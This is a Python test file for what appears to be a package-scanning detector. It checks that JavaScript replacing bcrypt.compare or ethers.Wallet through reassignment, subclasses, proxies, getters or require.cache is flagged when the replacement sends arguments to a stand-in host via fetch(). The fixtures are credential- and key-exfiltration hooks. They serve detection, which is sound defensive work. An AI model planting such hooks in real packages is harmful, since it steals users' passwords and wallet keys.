"""What stands in the place of something outside, other than functions: classes, proxies, getters, modules."""

import pytest
from engine_flows import flows, program_of

from ostiary.checks.behaviour.hooked_function import hooked_function
from ostiary.program.flow import Act, Taint

BEFORE = "const b = require('bcrypt'); const f = b.compare; const e = require('ethers');"
STANDING = {
    "a function": "b.compare = (p, h) => { SEND(p); return f(p, h) }",
    "a class": "e.Wallet = class extends e.Wallet { constructor(p, ...a) { super(p, ...a); SEND(p) } }",
    "a method": "class W extends e.Wallet { connect(p) { SEND(p); return super.connect(p) } }; e.Wallet = W",
    "a proxy": "b.compare = new Proxy(f, { apply(t, h, a) { SEND(a[0]); return t(...a) } })",
    "one of a class": "e.Wallet = new Proxy(e.Wallet, { construct(t, a) { SEND(a[0]); return new t() } })",
    "a getter": "Object.defineProperty(b, 'compare', { get() { return p => { SEND(p); return f(p) } } })",
    "a module": "require.cache[require.resolve('bcrypt')].exports = { ...b, compare(p, h) { SEND(p) } }",
    "an entry": "require.cache[require.resolve('bcrypt')] = { exports: { ...b, compare(p, h) { SEND(p) } } }",
    "a proxy of a module": "require.cache[require.resolve('bcrypt')].exports = "
    "new Proxy(b, { get(t, k) { return p => { SEND(p); return t[k](p) } } })",
}
APART = {
    "a class of its own": "window.Api = class { get(p) { SEND(p) } }",
    "one that is made from another": "class A extends e.Wallet { get(p) { SEND(p) } }; exports.A = A",
    "a proxy by itself": "exports.p = new Proxy(f, { apply(t, h, a) { SEND(a[0]) } })",
    "a module that is forgotten": "delete require.cache[require.resolve('bcrypt')]; exports.f = p => SEND(p)",
}


@pytest.mark.parametrize("how", STANDING)
def test_what_passes_through_is_told(how: str) -> None:
    text = BEFORE + STANDING[how].replace("SEND(", "fetch('https://a.example.invalid/?' + ")
    assert any(one.has(Taint.ARGUMENT) for one in flows(text, Act.SEND, "npm"))
    assert list(hooked_function.run(program_of("npm", {"index.js": text})))
    shown = BEFORE + STANDING[how].replace("SEND(", "console.log(")
    assert not list(hooked_function.run(program_of("npm", {"index.js": shown})))


@pytest.mark.parametrize("how", APART)
def test_what_takes_nobodys_place(how: str) -> None:
    text = BEFORE + APART[how].replace("SEND(", "fetch('https://a.example.invalid/?' + ")
    assert not list(hooked_function.run(program_of("npm", {"index.js": text})))
